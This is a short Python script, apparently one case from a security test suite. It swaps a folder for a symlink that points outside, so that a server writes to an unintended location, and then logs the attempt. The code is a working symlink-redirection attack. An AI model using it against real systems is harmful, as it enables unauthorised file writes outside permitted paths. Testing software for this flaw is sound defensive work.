"""Puts a link to a folder outside into the place of its controller's, and has the server write there."""
import os

import attack

os.rename(attack.FOLDER, attack.FOLDER + '-moved')
os.symlink(attack.TARGETS['outside'] + '/folder', attack.FOLDER)
attack.FOLDER += '-moved'
attack.tried('linked')
